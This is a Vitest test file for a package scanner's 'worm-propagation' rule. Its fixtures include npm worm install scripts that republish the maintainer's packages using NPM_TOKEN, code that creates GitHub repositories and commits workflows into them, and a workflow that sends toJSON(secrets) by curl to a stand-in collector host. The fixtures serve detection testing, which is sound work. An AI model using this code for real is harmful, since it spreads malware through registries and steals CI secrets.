import { describe, expect, test } from 'vitest';
import { manifest, scanFiles } from '../test/helpers/analyze.js';
import { expectAtMostLow, finding } from '../test/helpers/findings.js';

const RULE = 'worm-propagation';

describe('worm-propagation: npm worms', () => {
  test('install code that lists the maintainer\'s packages, injects a postinstall and publishes with NPM_TOKEN is critical', () => {
    const r = scanFiles({
      'package.json': manifest({ scripts: { postinstall: 'node w.js' } }),
      'w.js':
        "const { execSync } = require('child_process'); const fs = require('fs');\nconst token = process.env.NPM_TOKEN;\nasync function spread(user) {\n  const r = await fetch('https://registry.npmjs.org/-/v1/search?text=maintainer:' + user);\n  for (const o of (await r.json()).objects) {\n    const pkg = JSON.parse(fs.readFileSync('/tmp/w/package/package.json', 'utf8'));\n    pkg.scripts.postinstall = 'node bundle.js';\n    fs.writeFileSync('/tmp/w/package/package.json', JSON.stringify(pkg));\n    execSync('npm publish', { cwd: '/tmp/w/package' });\n  }\n}\nspread('me');",
    });
    expect(r.of(RULE)).toEqual([finding('critical', ['worm'], { reach: 'install', message: expect.stringContaining('npm token') })]);
    expect(r.verdict).toBe('malicious');
  });

  test('library code that enumerates the maintainer\'s packages and republishes them is a worm on import', () => {
    const r = scanFiles({ 'index.js': "const { execSync } = require('child_process');\nasync function go(user) { const r = await fetch('https://registry.npmjs.org/-/v1/search?text=maintainer:' + user); for (const o of (await r.json()).objects) execSync('npm version patch && npm publish', { cwd: o.dir }); }\nmodule.exports = go;" });
    expect(r.of(RULE)).toEqual([finding('critical', ['worm'], { message: expect.stringContaining("listing the maintainer's packages") })]);
    expect(r.verdict).toBe('malicious');
  });

  test('a release tool (whoami, access check, version bump, publish with a token) is not a worm', () => {
    const r = scanFiles({
      'index.js': "const semver = require('semver'); const { publish } = require('libnpmpublish'); const fetch = require('npm-registry-fetch');\nasync function release(pkg, tarball) {\n  const me = await fetch.json('/-/whoami', { token: process.env.NPM_TOKEN });\n  if (!me) throw new Error('Authentication error. Use `npm whoami`; registry does not support `npm access list packages`');\n  pkg.version = semver.inc(pkg.version, 'patch');\n  await publish(pkg, tarball, { token: process.env.NPM_TOKEN });\n}\nmodule.exports = release;",
    });
    const worm = r.of(RULE).filter((f) => f.severity === 'critical' || f.severity === 'high');
    expect(worm).toEqual([]);
  });

  test('a registry PUT with _attachments (a hand-made publish) from install code is critical', () => {
    const r = scanFiles({
      'package.json': manifest({ scripts: { preinstall: 'node p.js' } }),
      'p.js': "const body = { name: 'victim', versions: {}, _attachments: { 'victim-1.0.1.tgz': { data: 'AAAA' } } };\nfetch('https://registry.npmjs.org/victim', { method: 'PUT', headers: { authorization: 'Bearer ' + process.env.NPM_TOKEN }, body: JSON.stringify(body) });",
    });
    expect(r.of(RULE)).toEqual([finding('critical', ['worm'], { message: expect.stringContaining('registry PUT') })]);
    expect(r.verdict).toBe('malicious');
  });
});

describe('worm-propagation: GitHub and CI', () => {
  test('install code creating a public repository with a GitHub token is critical', () => {
    const r = scanFiles({
      'package.json': manifest({ scripts: { postinstall: 'node g.js' } }),
      'g.js': "fetch('https://api.github.com/user/repos', { method: 'POST', headers: { authorization: 'token ' + process.env.GITHUB_TOKEN }, body: JSON.stringify({ name: 'dump', private: false }) });",
    });
    expect(r.of(RULE)).toEqual([finding('critical', ['worm'], { message: expect.stringContaining('create repositories') })]);
    expect(r.verdict).toBe('malicious');
  });

  test('writing a workflow that dumps toJSON(secrets) from install code is critical', () => {
    const r = scanFiles({
      'package.json': manifest({ scripts: { postinstall: 'node w.js' } }),
      'w.js': "const fs = require('fs');\nfs.mkdirSync('.github/workflows', { recursive: true });\nfs.writeFileSync('.github/workflows/ci.yml', 'on: push\\njobs:\\n  x:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: echo \"${{ toJSON(secrets) }}\" | curl -d @- https://collector.invalid');",
    });
    expect(r.of(RULE)).toContainEqual(finding('critical', ['ci-takeover'], { message: expect.stringContaining('.github/workflows/ci.yml') }));
    expect(r.verdict).toBe('malicious');
  });

  test('committing a workflow into other repositories through the contents API is high on import', () => {
    const r = scanFiles({ 'index.js': "module.exports = (repo, token, yml) => fetch(`https://api.github.com/repos/${repo}/contents/.github/workflows/formatter.yml`, { method: 'PUT', headers: { authorization: 'token ' + token }, body: JSON.stringify({ message: 'ci', content: Buffer.from(yml).toString('base64') }) });" });
    expect(r.of(RULE)).toEqual([finding('high', ['ci-takeover'], { message: expect.stringContaining('write a workflow into a repository') })]);
    expect(r.verdict).toBe('malicious');
  });

  test('git push in a postinstall script is critical', () => {
    const r = scanFiles({ 'package.json': manifest({ scripts: { postinstall: 'git add -A && git commit -m sync && git push origin main' } }) });
    expect(r.of(RULE)).toEqual([finding('critical', ['worm'], { file: 'package.json' })]);
    expect(r.verdict).toBe('malicious');
  });

  test('toJSON(secrets) in library code is medium and suspicious', () => {
    const r = scanFiles({ 'index.js': "module.exports = 'steps:\\n  - run: echo \"${{ toJSON(secrets) }}\" > all.json';" });
    expect(r.of(RULE)).toEqual([finding('medium', ['ci-takeover'])]);
    expect(r.verdict).toBe('suspicious');
  });
});

describe('worm-propagation stays quiet', () => {
  test('a release-tool bin that writes a project .npmrc from NPM_TOKEN and runs npm publish', () => {
    const r = scanFiles({ 'package.json': manifest({ bin: { rel: 'cli.js' } }), 'cli.js': "const { execSync } = require('child_process');\nconst fs = require('fs');\nfs.writeFileSync('.npmrc', '//registry.npmjs.org/:_authToken=' + process.env.NPM_TOKEN);\nexecSync('npm publish --access public', { stdio: 'inherit' });" });
    expect(r.of(RULE)).toEqual([finding('low', [], { message: expect.stringContaining('what release tools do') })]);
    expectAtMostLow(r.findings);
    expect(r.verdict).toBe('clean');
  });

  test('a library function that scaffolds a CI workflow is low; the same write on load is high', () => {
    const write = "fs.writeFileSync(path.join(dir, '.github', 'workflows', 'CI.yml'), 'on: push\\njobs: {}');";
    const fn = scanFiles({ 'index.js': `const fs = require('fs'); const path = require('path');\nexports.scaffold = (dir) => { ${write} };` });
    expect(fn.of(RULE)).toEqual([finding('low', [], { message: expect.stringContaining('workflow') })]);
    const onLoad = scanFiles({ 'index.js': `const fs = require('fs'); const path = require('path');\nconst dir = process.cwd();\n${write}` });
    expect(onLoad.of(RULE)).toEqual([finding('high', ['ci-takeover'], { message: expect.stringContaining('workflow') })]);
  });

  test('a CLI that scaffolds a CI workflow when asked is low', () => {
    const r = scanFiles({ 'package.json': manifest({ bin: { init: 'cli.js' } }), 'cli.js': "const fs = require('fs'); const path = require('path');\nfs.writeFileSync(path.join(process.cwd(), '.github', 'workflows', 'ci.yml'), 'on: push\\njobs: {}');" });
    expect(r.of(RULE)).toEqual([finding('low')]);
    expect(r.verdict).toBe('clean');
  });

  test('a deploy library that pushes to git and uses Octokit when called is info only', () => {
    const r = scanFiles({ 'index.js': "const { execSync } = require('child_process');\nexports.deploy = (dir) => execSync('git push origin gh-pages', { cwd: dir });\nexports.create = (octokit, name) => octokit.rest.repos.createForAuthenticatedUser({ name });" });
    expectAtMostLow(r.of(RULE));
    expect(r.verdict).toBe('clean');
  });
});
